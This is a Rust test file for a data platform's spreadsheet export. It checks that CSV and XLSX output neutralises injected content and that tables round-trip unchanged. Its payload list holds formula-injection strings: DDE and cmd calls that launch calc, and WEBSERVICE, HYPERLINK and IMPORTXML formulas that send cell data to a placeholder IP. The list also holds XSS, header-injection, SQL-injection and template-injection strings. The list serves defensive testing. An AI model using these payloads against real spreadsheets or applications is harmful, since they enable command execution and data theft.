//! T:F4: nothing in an exported file can act. And what is exported comes back as it was.

use std::io::Cursor;

use calamine::{Reader, Xlsx};
use kernel::{Day, Lang};
use larbro_platform::files::export::file_name;
use larbro_platform::files::{self, Cell, CsvStyle, Finding, Found, Limits, Said, Table, Weight, with_errors};

use super::dice::Dice;
use super::packing::{SHEET, unpack};

/// Three hundred texts that did harm somewhere: formulas, script, header lines, quotes.
fn payloads() -> Vec<String> {
    const STARTS: [&str; 15] =
        ["=", "+", "-", "@", "\t", "\r", "\n", "'=", "''+", "\t=", "\r\n=", "＝", "＠", "", "\""];
    const BODIES: [&str; 20] = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://192.0.2.1?x=\"&A1,\"klicka\")",
        "SUM(A1:A9)*2",
        "WEBSERVICE(\"http://192.0.2.1\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "a\r\nSet-Cookie: x=1",
        "a;b,c\td",
        "\"quoted\"",
        "'; DROP TABLE x; --",
        "{{7*7}}",
        "${7*7}",
        "&#61;1+1",
        "\u{202e}fdp.exe",
        "a\nb",
        "IMPORTXML(CONCAT(\"http://192.0.2.1\",A1),\"//a\")",
        "å\u{a0}ä ö",
    ];
    STARTS.iter().flat_map(|start| BODIES.iter().map(move |body| format!("{start}{body}"))).collect()
}

fn acts(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])
}

fn table(payloads: &[String]) -> Table {
    let rows = payloads.iter().enumerate().map(|(n, text)| vec![Cell::Whole(n as i64), text.as_str().into()]);
    Table { title: payloads[0].clone(), columns: vec!["n".into(), payloads[0].clone()], rows: rows.collect() }
}

#[test]
fn three_hundred_payloads_are_inert_in_csv() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 300);
    for (style, delimiter) in [(CsvStyle::Swedish, b';'), (CsvStyle::Plain, b',')] {
        let bytes = table(&payloads).csv(style);
        let text = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(&bytes);
        let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).from_reader(text);
        let records: Vec<_> = reader.records().map(|record| record.expect("a record")).collect();
        assert_eq!(records.len(), 301);
        for (record, payload) in records.iter().skip(1).zip(&payloads) {
            assert_eq!(record.len(), 2);
            assert!(!acts(&record[1]), "{payload:?} acts");
            assert!(record[1] == **payload || record[1] == format!("'{payload}"), "{payload:?} was changed");
        }
        assert!(!acts(&records[0][1]));
    }
}

#[test]
fn three_hundred_payloads_are_inert_in_workbooks() {
    let payloads = payloads();
    let bytes = table(&payloads).xlsx().expect("a workbook");
    let parts = unpack(&bytes);
    let sheet = &parts.iter().find(|(name, _)| name == SHEET).expect("a sheet").1;
    let sheet = String::from_utf8(sheet.clone()).expect("XML");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f ") && !sheet.contains("<hyperlink"));
    assert!(!parts.iter().any(|(name, _)| name.contains("external") || name.contains(".bin")));
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(&bytes[..])).expect("a workbook");
    let range = book.worksheet_range_at(0).expect("a sheet").expect("its cells");
    for (row, payload) in payloads.iter().enumerate() {
        let cell = range.get_value((row as u32 + 1, 1)).expect("a cell").to_string();
        let lines = |text: &str| text.replace("\r\n", "\n").replace('\r', "\n");
        assert_eq!(lines(&cell), lines(payload));
    }
}

#[test]
fn payloads_are_inert_in_names_and_error_files() {
    for payload in payloads() {
        let name = file_name(&payload, "csv");
        assert!(name.bytes().all(|b| b.is_ascii_alphanumeric() || b"-.".contains(&b)), "{name}");
        let quoted = payload.replace('"', "\"\"");
        let csv = format!("id,name\n1,\"{quoted}\"\n");
        let sheet = files::parse("a.csv", csv.as_bytes(), &Limits::DEFAULT).expect("a readable file");
        let finding = Finding {
            weight: Weight::Row,
            row: Some(2),
            column: Some("name".into()),
            found: Some(Found::of(&payload, false)),
            expected: Said::key("expected-known"),
            fix: Said::key("fix-cell"),
        };
        for lang in Lang::ALL {
            let bytes = with_errors(&sheet, std::slice::from_ref(&finding), lang).csv(CsvStyle::Plain);
            let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[..]);
            let records: Vec<_> = reader.records().map(|record| record.expect("a record")).collect();
            assert_eq!((records.len(), records[1].len()), (2, 3));
            assert!(records[1].iter().all(|cell| !acts(cell)), "{payload:?} acts");
            assert!(records[1][2].starts_with("name: "));
        }
    }
}

#[test]
fn an_error_file_comes_back_without_its_errors_being_read() {
    let sheet = files::parse("a.csv", b"id;name\n1;x\n2\n3;y;z\n", &Limits::DEFAULT).expect("a readable file");
    let table = with_errors(&sheet, &sheet.findings, Lang::Sv);
    assert_eq!(table.columns, ["id", "name", "Fel"]);
    assert_eq!(table.rows[0][2], Cell::from(""));
    assert!(matches!(&table.rows[1][2], Cell::Text(text) if text.contains("1 cell")), "{:?}", table.rows[1]);
    assert!(matches!(&table.rows[2][2], Cell::Text(text) if text.contains('z')));
    let again = files::parse("a.csv", &table.csv(CsvStyle::Swedish), &Limits::DEFAULT).expect("a readable file");
    assert!(again.findings.is_empty());
    assert_eq!(with_errors(&again, &[], Lang::Sv).columns, table.columns);
}

fn random_text(dice: &mut Dice, may_return: bool) -> String {
    const LETTERS: [&str; 26] = [
        "a", "B", "å", "Ö", "é", " ", "0", "7", ",", ";", "\t", "\"", "'", "=", "-", "+", "@", "\n", "ab", "x y", ".",
        "€", "語", "_x0041_", "<&>", "\r",
    ];
    (0..dice.below(8)).map(|_| LETTERS[dice.below(if may_return { 26 } else { 25 })]).collect()
}

/// A table of texts in which no row is blank.
fn random_table(dice: &mut Dice, may_return: bool) -> Table {
    let width = 1 + dice.below(6);
    let columns = (0..width).map(|n| format!("c{n}{}", random_text(dice, may_return)).trim().to_owned()).collect();
    let rows = (0..=dice.below(12)).map(|n| {
        let first = Cell::Text(format!("{n}{}", random_text(dice, may_return)));
        std::iter::once(first).chain((1..width).map(|_| random_text(dice, may_return).into())).collect()
    });
    Table { title: String::new(), columns, rows: rows.collect() }
}

fn back(name: &str, bytes: &[u8]) -> Table {
    let sheet = files::parse(name, bytes, &Limits::DEFAULT).unwrap_or_else(|refusal| panic!("{refusal}"));
    assert!(sheet.findings.is_empty(), "{:?}", sheet.findings);
    let rows = sheet.rows.into_iter().map(|row| row.cells.into_iter().map(Cell::Text).collect());
    Table { title: String::new(), columns: sheet.header, rows: rows.collect() }
}

#[test]
fn a_thousand_tables_come_back_from_csv_as_they_were() {
    for seed in 0..1_000 {
        let table = random_table(&mut Dice::new(seed), true);
        for style in [CsvStyle::Swedish, CsvStyle::Plain] {
            let bytes = table.csv(style);
            let again = back("a.csv", &bytes);
            assert_eq!(again, table, "seed {seed}");
            assert_eq!(again.csv(style), bytes, "seed {seed}");
        }
    }
}

#[test]
fn tables_come_back_from_workbooks_as_they_were() {
    for seed in 0..150 {
        let table = random_table(&mut Dice::new(seed), false);
        assert_eq!(back("a.xlsx", &table.xlsx().expect("a workbook")), table, "seed {seed}");
    }
}

#[test]
fn numbers_and_days_come_back_as_text_that_reads_the_same() {
    let day = Day::new(2027, 1, 18).expect("a day");
    let cells =
        vec![Cell::Whole(-12), Cell::Decimal(7.25), Cell::Minutes(74), Cell::Day(day), Cell::Empty, "Åsele".into()];
    let columns = ["a", "b", "c", "d", "e", "f"].map(str::to_owned).to_vec();
    let table = Table { title: "Tal/dag".into(), columns, rows: vec![cells] };
    let texts = |decimal: &str| ["-12", decimal, "74", "2027-01-18", "", "Åsele"].map(Cell::from).to_vec();
    assert_eq!(back("a.csv", &table.csv(CsvStyle::Plain)).rows, [texts("7.25")]);
    assert_eq!(back("a.csv", &table.csv(CsvStyle::Swedish)).rows, [texts("7,25")]);
    assert_eq!(back("a.xlsx", &table.xlsx().expect("a workbook")).rows, [texts("7.25")]);
}
